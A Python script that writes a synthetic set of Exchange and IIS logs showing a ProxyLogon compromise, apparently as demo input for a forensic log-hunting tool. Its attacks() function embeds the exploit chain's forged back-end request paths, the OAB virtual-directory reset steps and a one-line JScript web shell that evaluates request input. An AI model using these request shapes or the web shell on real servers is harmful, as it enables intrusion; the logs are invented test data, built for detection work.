#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Writes examples/exch01/, the synthetic evidence tree that `make run` scans.

The tree is a mounted C: volume of EXCH01, an Exchange 2016 CU19 server
(build 15.1.2176.2, without the March 2021 security update), compromised
through ProxyLogon on 2021-03-03. Everything is made up by this script from
the published log formats; the headers copy the field sets of the real
sample logs in ../shared/data/exchange-logs (qazeer_*__HttpProxy_*.LOG,
qazeer_ECPServer20230111-1.LOG). examples/README.md tells the story.

Output is deterministic (a fixed random seed, no clock): running the script
again rewrites the same bytes. The output is committed, so `make run` needs
no generation step.

usage: make_examples.py [OUTPUT_DIR]     (default: examples/exch01)
"""
import datetime as dt
import os
import random
import shutil
import sys
import uuid

# The HttpProxy field set of Exchange 2016/2019 (as in the real samples).
HTTPPROXY_FIELDS = (
    'DateTime,RequestId,MajorVersion,MinorVersion,BuildVersion,'
    'RevisionVersion,ClientRequestId,Protocol,UrlHost,UrlStem,ProtocolAction,'
    'AuthenticationType,IsAuthenticated,AuthenticatedUser,Organization,'
    'AnchorMailbox,UserAgent,ClientIpAddress,ServerHostName,HttpStatus,'
    'BackEndStatus,ErrorCode,Method,ProxyAction,TargetServer,'
    'TargetServerVersion,RoutingType,RoutingHint,BackEndCookie,'
    'ServerLocatorHost,ServerLocatorLatency,RequestBytes,ResponseBytes,'
    'TargetOutstandingRequests,AuthModulePerfContext,HttpPipelineLatency,'
    'CalculateTargetBackEndLatency,GlsLatencyBreakup,TotalGlsLatency,'
    'AccountForestLatencyBreakup,TotalAccountForestLatency,'
    'ResourceForestLatencyBreakup,TotalResourceForestLatency,ADLatency,'
    'SharedCacheLatencyBreakup,TotalSharedCacheLatency,'
    'ActivityContextLifeTime,ModuleToHandlerSwitchingLatency,'
    'ClientReqStreamLatency,BackendReqInitLatency,BackendReqStreamLatency,'
    'BackendProcessingLatency,BackendRespInitLatency,BackendRespStreamLatency,'
    'ClientRespStreamLatency,KerberosAuthHeaderLatency,'
    'HandlerCompletionLatency,RequestHandlerLatency,'
    'HandlerToModuleSwitchingLatency,ProxyTime,CoreLatency,RoutingLatency,'
    'HttpProxyOverhead,TotalRequestTime,RouteRefresherLatency,UrlQuery,'
    'BackEndGenericInfo,GenericInfo,GenericErrors,EdgeTraceId,DatabaseGuid,'
    'UserADObjectGuid,PartitionEndpointLookupLatency,RoutingStatus'
).split(',')

ECP_FIELDS = 'TimeStamp,ServerName,EventId,EventData'

# The server.
HOST = 'EXCH01'
FQDN = 'exch01.contoso.local'
BUILD = (15, 1, 2176, 2)
# The back-end version cookie Exchange writes for this build.
BE_VERSION = 0x70000000 | (BUILD[0] << 22) | (BUILD[1] << 16) | 0x8000 \
    | BUILD[2]
EX_ROOT = 'Program Files/Microsoft/Exchange Server/V15'
EX_ROOT_WIN = r'C:\Program Files\Microsoft\Exchange Server\V15'
DOMAIN_SID = 'S-1-5-21-3623811015-3361044348-30300820'
DB_GUID = '5f0e3c9a-6b1d-4a52-9c7e-2b8d41e07a13'


def csv_field(value):
    """One CSV field, quoted as RFC 4180 says when it must be."""
    value = str(value)
    if any(c in value for c in ',"\r\n'):
        return '"' + value.replace('"', '""') + '"'
    return value


def iso(t):
    """2021-03-03T02:41:07.512Z"""
    return t.strftime('%Y-%m-%dT%H:%M:%S.') + '%03dZ' % (t.microsecond // 1000)


def httpproxy_header(first, build=BUILD):
    return ['#Software: Microsoft Exchange Server',
            '#Version: %02d.%02d.%04d.%03d' % build,
            '#Log-type: HttpProxy Logs',
            '#Date: ' + iso(first),
            '#Fields: ' + ','.join(HTTPPROXY_FIELDS)]


def ecp_header(first, log_type='ECP Server Log'):
    return ['#Software: Microsoft Exchange Server',
            '#Version: 15.0.0.0',
            '#Log-type: ' + log_type,
            '#Date: ' + iso(first),
            '#Fields: ' + ECP_FIELDS]


def generic_info(t, extra=''):
    begin = t - dt.timedelta(milliseconds=14)
    return ('BeginRequest=%s;CorrelationID=<empty>;ProxyState-Run=None;'
            'FEAuth=BEVersion-%d;%sProxyState-Complete=ProxyResponseData;'
            'SharedCacheGuard=0;EndRequest=%s;'
            % (iso(begin), BE_VERSION, extra, iso(t)))


def httpproxy_row(rng, t, protocol, **kw):
    """One HttpProxy record as a CSV line. kw overrides fields by name."""
    f = dict.fromkeys(HTTPPROXY_FIELDS, '')
    f.update({
        'DateTime': iso(t),
        'RequestId': str(uuid.UUID(int=rng.getrandbits(128), version=4)),
        'MajorVersion': BUILD[0], 'MinorVersion': BUILD[1],
        'BuildVersion': BUILD[2], 'RevisionVersion': BUILD[3],
        'Protocol': protocol, 'UrlHost': 'mail.contoso.com',
        'AuthenticationType': 'Negotiate', 'IsAuthenticated': 'true',
        'ServerHostName': HOST, 'HttpStatus': 200, 'BackEndStatus': 200,
        'Method': 'POST', 'ProxyAction': 'Proxy', 'TargetServer': FQDN,
        'TargetServerVersion': '%02d.%02d.%04d.000' % BUILD[:3],
        'RoutingType': 'IntraForest', 'RoutingHint': 'WindowsIdentity',
        'RequestBytes': rng.randint(200, 4000),
        'ResponseBytes': rng.randint(300, 30000),
        'HttpPipelineLatency': 0, 'CalculateTargetBackEndLatency': 0,
        'TotalGlsLatency': 0, 'TotalAccountForestLatency': 0,
        'TotalResourceForestLatency': 0, 'ADLatency': 0,
        'TotalSharedCacheLatency': 0,
        'ActivityContextLifeTime': rng.randint(5, 60),
        'ModuleToHandlerSwitchingLatency': 0, 'ClientReqStreamLatency': 0,
        'BackendReqInitLatency': 0, 'BackendReqStreamLatency': 0,
        'BackendProcessingLatency': rng.randint(3, 50),
        'BackendRespInitLatency': 0, 'BackendRespStreamLatency': 0,
        'ClientRespStreamLatency': 0, 'KerberosAuthHeaderLatency': 0,
        'HandlerCompletionLatency': 0, 'RequestHandlerLatency': 14,
        'HandlerToModuleSwitchingLatency': 0, 'ProxyTime': 11,
        'CoreLatency': 1, 'RoutingLatency': 1, 'HttpProxyOverhead': 2,
        'TotalRequestTime': rng.randint(8, 70),
        'GenericInfo': generic_info(t),
        'DatabaseGuid': '|RoutingDB:' + DB_GUID, 'RoutingStatus': 'CafeV1',
    })
    for k, v in kw.items():
        if k not in f:
            raise KeyError(k)
        f[k] = v
    return ','.join(csv_field(f[k]) for k in HTTPPROXY_FIELDS)


# Benign traffic --------------------------------------------------------------

USERS = [('jdoe', 1105), ('asmith', 1108), ('mlopez', 1112), ('kchen', 1131),
         ('administrator', 500)]
OUTLOOK = ('Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook '
           '16.0.13127; Pro)')
BROWSER = ('Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 '
           '(KHTML  like Gecko) Chrome/88.0.4324.150 Safari/537.36')


def benign_row(rng, t, protocol):
    """A plausible legitimate request of one protocol."""
    user, rid = rng.choice(USERS[:4])
    ip = '10.10.%d.%d' % (rng.randint(1, 4), rng.randint(10, 250))
    sid = 'Sid~%s-%d' % (DOMAIN_SID, rid)
    cookie = 'Server~%s~%d~%s' % (FQDN, BE_VERSION,
                                  (t + dt.timedelta(minutes=10))
                                  .strftime('%Y-%m-%dT%H:%M:%S'))
    if protocol == 'Owa':
        return httpproxy_row(
            rng, t, 'Owa', UrlStem='/owa/service.svc',
            ProtocolAction='GetConversationItems', AuthenticationType='Forms',
            AuthenticatedUser='CONTOSO\\' + user, AnchorMailbox=sid,
            UserAgent=BROWSER, ClientIpAddress=ip, BackEndCookie=cookie,
            UrlQuery='?action=GetConversationItems&app=Mail&n=%d'
            % rng.randint(10, 99))
    if protocol == 'Mapi':
        guid = str(uuid.UUID(int=rng.getrandbits(128), version=4))
        return httpproxy_row(
            rng, t, 'Mapi', UrlStem='/mapi/emsmdb/',
            AuthenticatedUser='CONTOSO\\' + user,
            Organization='contoso.local', AnchorMailbox='MailboxGuid~' + guid,
            UserAgent=OUTLOOK, ClientIpAddress=ip,
            RoutingHint='MailboxGuidWithDomain',
            BackEndCookie='Database~%s~~%s' % (
                DB_GUID, (t + dt.timedelta(days=30))
                .strftime('%Y-%m-%dT%H:%M:%S')),
            UrlQuery='?MailboxId=%s@contoso.com' % guid)
    if protocol == 'Autodiscover':
        return httpproxy_row(
            rng, t, 'Autodiscover', UrlStem='/autodiscover/autodiscover.xml',
            AuthenticationType='NTLM', AuthenticatedUser='CONTOSO\\' + user,
            AnchorMailbox=sid, UserAgent=OUTLOOK, ClientIpAddress=ip)
    if protocol == 'Ecp':
        return httpproxy_row(
            rng, t, 'Ecp', UrlStem='/ecp/UsersGroups/Mailboxes.svc/GetList',
            AuthenticationType='Forms',
            AuthenticatedUser='CONTOSO\\administrator',
            AnchorMailbox='Sid~%s-500' % DOMAIN_SID, UserAgent=BROWSER,
            ClientIpAddress='10.10.1.5', BackEndCookie=cookie,
            UrlQuery='?msExchEcpCanary=%032x' % rng.getrandbits(128))
    # Ews: the health probes Exchange runs round the clock.
    return httpproxy_row(
        rng, t, 'Ews', UrlHost='localhost', UrlStem='/EWS/Exchange.asmx',
        AuthenticatedUser='CONTOSO\\HealthMailbox3b5c0e1',
        AnchorMailbox='Sid~%s-1142' % DOMAIN_SID,
        UserAgent='AMProbe/Local/ClientAccess', ClientIpAddress='127.0.0.1',
        Method='GET')


def ecp_row(t, cmd, url, sid='S-1-5-21-3623811015-3361044348-30300820-500',
            rng=None):
    """One ECP Server log record (EventId ECP.Request)."""
    data = ('S:TIME=%d;S:SID=%s;S:CMD=%s;S:REQID=;S:URL=%s;S:REFERRER=;S:EX=;'
            'S:ACTID=%s;S:RS=0;S:BLD=%d.%d.%d.%d;S:TNAME=<null>;S:TID=;'
            'S:USID=%s;S:EDOID=;S:ACID='
            % (rng.randint(5, 90), sid, cmd, url,
               uuid.UUID(int=rng.getrandbits(128), version=4),
               *BUILD, uuid.UUID(int=rng.getrandbits(128), version=4)))
    return ','.join([iso(t), HOST, 'ECP.Request', csv_field(data)])


def oab_line(t, message):
    """One OABGenerator log line: an ISO time, a space, the message."""
    return iso(t) + ' ' + message


# The tree --------------------------------------------------------------------

class Tree:
    """Collects log records per file and writes them, sorted, with CRLF."""

    def __init__(self):
        self.files = {}  # relative path -> (kind, [(time, line)])

    def add(self, path, kind, t, line):
        self.files.setdefault(path, (kind, []))[1].append((t, line))

    def httpproxy(self, protocol, t, line):
        path = '%s/Logging/HttpProxy/%s/HttpProxy_%s-1.LOG' % (
            EX_ROOT, protocol, t.strftime('%Y%m%d%H'))
        self.add(path, 'httpproxy', t, line)

    def ecp(self, t, line):
        path = '%s/Logging/ECP/Server/ECPServer%s-1.LOG' % (
            EX_ROOT, t.strftime('%Y%m%d'))
        self.add(path, 'ecp', t, line)

    def oab(self, t, line):
        path = '%s/Logging/OABGeneratorLog/OABGenerator_%s-1.LOG' % (
            EX_ROOT, t.strftime('%Y%m%d'))
        self.add(path, 'oab', t, line)

    def iis(self, t, line):
        path = 'inetpub/logs/LogFiles/W3SVC1/u_ex%s.log' % t.strftime('%y%m%d')
        self.add(path, 'iis', t, line)

    def write(self, root):
        for path, (kind, rows) in sorted(self.files.items()):
            rows.sort(key=lambda r: r[0])
            first = rows[0][0]
            if kind == 'httpproxy':
                head = httpproxy_header(first)
            elif kind == 'ecp':
                head = ecp_header(first)
            elif kind == 'iis':
                head = iis_header(first)
            else:
                head = []
            full = os.path.join(root, path)
            os.makedirs(os.path.dirname(full), exist_ok=True)
            with open(full, 'w', newline='') as out:
                out.write('\r\n'.join(head + [r[1] for r in rows]) + '\r\n')


# IIS W3C header, the field set of IIS's default (as in the CC0 IIS sample
# in shared/data/exchange-logs, without its "# Fields" space).
IIS_FIELDS = ('date time s-ip cs-method cs-uri-stem cs-uri-query s-port '
              'cs-username c-ip cs(User-Agent) cs(Referer) sc-status '
              'sc-substatus sc-win32-status time-taken')


def iis_header(first):
    return ['#Software: Microsoft Internet Information Services 10.0',
            '#Version: 1.0',
            '#Date: %s' % first.strftime('%Y-%m-%d %H:%M:%S'),
            '#Fields: ' + IIS_FIELDS]


def iis_row(t, method, stem, query, user, ip, agent, status, taken):
    return ' '.join([t.strftime('%Y-%m-%d'), t.strftime('%H:%M:%S'),
                     '10.1.0.25', method, stem, query or '-', '443',
                     user or '-', ip, agent.replace(' ', '+'), '-',
                     str(status), '0', '0', str(taken)])


def benign_iis_day(tree, rng, day):
    # Front-end site traffic of a working day: OWA logons and ActiveSync.
    for _ in range(12):
        t = at(day, rng.randint(7, 18), rng.randint(0, 59), rng.randint(0, 59))
        ip = '10.1.%d.%d' % (rng.randint(2, 9), rng.randint(2, 250))
        if rng.random() < 0.5:
            row = iis_row(t, 'GET', '/owa/auth/logon.aspx',
                          'url=https%3a%2f%2fmail.contoso.com%2fowa%2f', None,
                          ip, 'Mozilla/5.0 (Windows NT 10.0; Win64; x64)',
                          200, rng.randint(5, 40))
        else:
            row = iis_row(t, 'POST', '/Microsoft-Server-ActiveSync/default.eas',
                          'Cmd=Ping&User=CONTOSO%%5Cuser%02d' % rng.randint(1, 40),
                          'CONTOSO\\user%02d' % rng.randint(1, 40), ip,
                          'Outlook-iOS-Android/1.0', 200, rng.randint(50, 900))
        tree.iis(t, row)


def at(day, hh, mm, ss=0, ms=0):
    return dt.datetime.combine(day, dt.time(hh, mm, ss, ms * 1000))


# Days with logs: before ProxyLogon's first known exploitation (2021-01-06)
# through early January, then late February to 5 March. The logs of
# 9 January to 25 February are missing (the story: an administrator deleted
# them to free disk space), which the report shows as a coverage gap.
def log_days():
    d = dt.date(2021, 1, 1)
    while d <= dt.date(2021, 3, 5):
        if not dt.date(2021, 1, 9) <= d <= dt.date(2021, 2, 25):
            yield d
        d += dt.timedelta(days=1)


def benign_day(tree, rng, day):
    """Four hourly files a day, one per protocol, at most ~5h10 apart."""
    plan = [(1, 'Ews', 2), (7, 'Owa', 2), (13, 'Mapi', 2),
            (19, 'Autodiscover', 2)]
    if day.weekday() < 5:
        plan.append((10, 'Ecp', 1))
    for hour, proto, n in plan:
        # The first and last rows of a file sit near the hour's ends, so the
        # longest silence of a day stays under six hours.
        minutes = [rng.randint(1, 9), rng.randint(50, 58)] + \
            [rng.randint(10, 49) for _ in range(n - 2)]
        for m in sorted(minutes[:n]):
            t = at(day, hour, m, rng.randint(0, 59), rng.randint(0, 999))
            tree.httpproxy(proto, t, benign_row(rng, t, proto))
    # ECP Server: a few admin reads and health checks, five a day.
    for hour in (0, 5, 10, 15, 20):
        t = at(day, hour, rng.randint(0, 50), rng.randint(0, 59),
               rng.randint(0, 999))
        cmd, url = rng.choice([
            ('Get-InboxRule', '/ecp/RulesEditor/InboxRules.svc/GetList'),
            ('Get-Mailbox', '/ecp/UsersGroups/Mailboxes.svc/GetList'),
            ('Get-OabVirtualDirectory',
             '/ecp/DDI/DDIService.svc/GetList?schema=OABVirtualDirectory'),
        ])
        tree.ecp(t, ecp_row(t, cmd, url + '&msExchEcpCanary=CANARY'
                            if '?' in url else
                            url + '?msExchEcpCanary=CANARY', rng=rng))
    # OAB generator: a run every few hours, nothing unusual.
    for hour in (0, 5, 10, 15, 20):
        t = at(day, hour, 30, rng.randint(0, 59), rng.randint(0, 999))
        tree.oab(t, oab_line(
            t, "OABGeneratorAssistant: Beginning generation of offline "
            "address book 'Default Offline Address Book (Ex2013)'."))
        t2 = t + dt.timedelta(seconds=rng.randint(20, 90))
        tree.oab(t2, oab_line(
            t2, "OABGeneratorAssistant: Finished generation of offline "
            "address book 'Default Offline Address Book (Ex2013)'; "
            "files written to '%s\\ClientAccess\\OAB\\Temp'." % EX_ROOT_WIN))


ATTACKER = '203.0.113.77'        # the ProxyLogon chain (TEST-NET-3)
FAILED = '198.51.100.45'         # autodiscover-only attempts (TEST-NET-2)
SCANNER = '192.0.2.10'           # a vulnerability scanner (TEST-NET-1)
EXPLOIT_UA = 'python-requests/2.25.1'
CANARY = 'ZSKTbrlD5EaV5iI6hlZyPUhr05ORlNkIHdWlZ8hOF3BpjDk5tzS-Z1RpGcy8Hx'
SCRIPT = ('http://f/<script language="JScript" runat="server">function '
          'Page_Load(){eval(Request["exhunt"],"unsafe");}</script>')


def ssrf_row(rng, t, target, status=200, ip=ATTACKER, stem='/ecp/y.js',
             cookie='', anchor=None):
    """A forged back-end request through the X-BEResource cookie."""
    return httpproxy_row(
        rng, t, 'Ecp', UrlHost=FQDN if ip == SCANNER else 'mail.contoso.com',
        UrlStem=stem, AuthenticationType='', IsAuthenticated='false',
        AnchorMailbox=('ServerInfo~' + target) if anchor is None else anchor,
        UserAgent=EXPLOIT_UA, ClientIpAddress=ip, HttpStatus=status,
        BackEndStatus=status, TargetServer=target.split('/')[0],
        RoutingHint='BEResourceCookie', BackEndCookie=cookie,
        DatabaseGuid='',
        GenericInfo=generic_info(t, 'ProxyToDownLevel=False;'))


def attacks(tree, rng):
    # 2021-02-27: autodiscover-only attempts that went no further.
    for i in range(3):
        t = at(dt.date(2021, 2, 27), 14, 12 + i, 3 + 7 * i, 118 + i)
        tree.httpproxy('Ecp', t, ssrf_row(
            rng, t, 'a]@%s:444/autodiscover/autodiscover.xml?#' % FQDN,
            ip=FAILED, status=500))
    # 2021-03-02/03: a scanner's probes aimed at localhost (nmap script).
    for i in range(6):
        t = at(dt.date(2021, 3, 2), 23, 40 + i, 11, 250 + 40 * i)
        tree.httpproxy('Owa', t, httpproxy_row(
            rng, t, 'Owa', UrlHost=FQDN, UrlStem='/owa/auth/x.js',
            AuthenticationType='', IsAuthenticated='false',
            AnchorMailbox='ServerInfo~localhost/owa/auth/logon.aspx?~3',
            UserAgent='Mozilla/5.0 (compatible; Nmap Scripting Engine; '
            'https://nmap.org/book/nse.html)', ClientIpAddress=SCANNER,
            HttpStatus=200, BackEndStatus=200, Method='GET',
            TargetServer='localhost', RoutingHint='BEResourceCookie',
            DatabaseGuid=''))
    # 2021-03-03 02:1x: the full ProxyLogon chain from one address.
    day = dt.date(2021, 3, 3)
    chain = [
        ('a]@%s:444/autodiscover/autodiscover.xml?#' % FQDN, 200, ''),
        ('a]@%s:444/mapi/emsmdb/?#' % FQDN, 200, ''),
        ('a]@%s:444/ecp/proxyLogon.ecp?#' % FQDN, 241, ''),
        ('a]@%s:444/ecp/DDI/DDIService.svc/GetObject?msExchEcpCanary=%s'
         '&schema=OABVirtualDirectory#' % (FQDN, CANARY), 200, ''),
        ('a]@%s:444/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=%s'
         '&schema=OABVirtualDirectory#' % (FQDN, CANARY), 200, ''),
        ('a]@%s:444/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=%s'
         '&schema=ResetOABVirtualDirectory#' % (FQDN, CANARY), 200, ''),
    ]
    for i, (target, status, cookie) in enumerate(chain):
        t = at(day, 2, 14, 5 + 9 * i, 312 + 17 * i)
        tree.httpproxy('Ecp', t, ssrf_row(rng, t, target, status=status,
                                          cookie=cookie))
    # One more forged request seen only in BackEndCookie (CSS-Exchange #310).
    t = at(day, 2, 16, 40, 77)
    tree.httpproxy('Ecp', t, ssrf_row(
        rng, t, '', stem='/ecp/main.css', anchor='',
        cookie='Server~%s:444/ecp/DDI/DDIService.svc/GetList?#~%d'
        % (FQDN, BE_VERSION)))
    # ECP Server: the script planted in the OAB ExternalUrl, then the reset
    # that wrote the settings to a web-shell file, then the cleanup.
    t = at(day, 2, 14, 51, 20)
    tree.ecp(t, ecp_row(
        t, "Set-OabVirtualDirectory.ExternalUrl='%s'.Identity="
        "'8a3e6d0b-2c2f-4f66-9a7b-fe2a1c6d0e31'" % SCRIPT,
        '/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=%s'
        '&schema=OABVirtualDirectory' % CANARY, sid='S-1-5-18', rng=rng))
    t = at(day, 2, 15, 0, 510)
    tree.ecp(t, ecp_row(
        t, "Set-OabVirtualDirectory.ExternalUrl=''.Identity="
        "'8a3e6d0b-2c2f-4f66-9a7b-fe2a1c6d0e31'",
        '/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=%s'
        '&schema=ResetOABVirtualDirectory' % CANARY, sid='S-1-5-18', rng=rng))
    # OAB generator: the arbitrary file write (CVE-2021-26858) to a
    # published web-shell name.
    t = at(day, 2, 17, 33, 902)
    tree.oab(t, oab_line(
        t, "OABGeneratorAssistant: Download failed and temporary file "
        "'C:\\inetpub\\wwwroot\\aspnet_client\\discover.aspx' needs to be "
        "removed."))
    # IIS: the attacker uses the planted shell (China Chopper posts its
    # commands in the body, so the log shows POSTs to the .aspx).
    for minute, status in ((21, 200), (22, 200), (35, 200)):
        t = at(day, 2, minute, 7)
        tree.iis(t, iis_row(t, 'POST', '/aspnet_client/discover.aspx', None,
                            None, ATTACKER, 'antSword/v2.1', status, 215))


def main():
    here = os.path.dirname(os.path.abspath(__file__))
    root = (sys.argv[1] if len(sys.argv) > 1 else
            os.path.join(here, '..', 'examples', 'exch01'))
    rng = random.Random(20210303)
    tree = Tree()
    iis_rng = random.Random(20210304)  # its own: the other logs stay as they were
    for day in log_days():
        benign_day(tree, rng, day)
        if day.weekday() < 5:
            benign_iis_day(tree, iis_rng, day)
    attacks(tree, rng)
    if os.path.isdir(root):
        shutil.rmtree(root)
    tree.write(root)
    sysdir = os.path.join(root, 'Windows', 'System32')
    os.makedirs(sysdir, exist_ok=True)
    with open(os.path.join(sysdir, 'README.txt'), 'w', newline='') as out:
        out.write('Marks the root of a Windows volume for exhunt: only the '
                  'logs of this demo exist.\r\n')
    total = sum(os.path.getsize(os.path.join(d, f))
                for d, _, fs in os.walk(root) for f in fs)
    print('wrote %d files, %d bytes under %s'
          % (len(tree.files) + 1, total, root))


if __name__ == '__main__':
    main()
